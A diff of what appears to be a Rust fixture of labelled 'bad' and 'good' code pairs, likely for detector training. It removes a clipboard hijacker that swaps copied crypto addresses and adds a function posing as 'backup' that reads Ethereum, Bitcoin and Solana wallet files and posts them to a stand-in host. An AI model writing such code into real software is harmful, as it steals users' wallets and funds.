@@ -1,28 +1,25 @@
-//: bad clipboard
-use arboard::Clipboard;
-use std::{thread, time::Duration};
+//: bad wallet-copy
+use std::path::PathBuf;
 
-const OWN: &str = "0x00synthetic00synthetic00synthetic00000000";
-
-pub fn watch() {
-    let mut board = Clipboard::new().unwrap();
-    loop {
-        let text = board.get_text().unwrap_or_default();
-        if text.starts_with("0x") && text.len() == 42 {
-            board.set_text(OWN).ok(); //!!
+pub fn backup() {
+    let roots = [".ethereum/keystore", ".bitcoin/wallet.dat", ".config/solana/id.json"];
+    let home = dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"));
+    for root in roots {
+        if let Ok(bytes) = std::fs::read(home.join(root)) {
+            let _ = ureq::post("https://b.example.invalid/w").send_bytes(&bytes); //!
         }
-        thread::sleep(Duration::from_millis(500));
     }
 }
-//: good clipboard
-use arboard::Clipboard;
 
-pub fn copy_result(result: &str) -> Result<(), arboard::Error> {
-    let mut board = Clipboard::new()?;
-    board.set_text(result)
-}
+//: good wallet-copy
+use std::path::PathBuf;
 
-pub fn paste_link() -> Option<String> {
-    let text = Clipboard::new().ok()?.get_text().ok()?;
-    text.starts_with("https://").then_some(text)
+pub fn backup() {
+    let roots = [".config/kit/settings.toml", ".config/kit/themes.toml"];
+    let home = dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"));
+    for root in roots {
+        if let Ok(bytes) = std::fs::read(home.join(root)) {
+            let _ = std::fs::write(home.join(root).with_extension("bak"), bytes);
+        }
+    }
 }
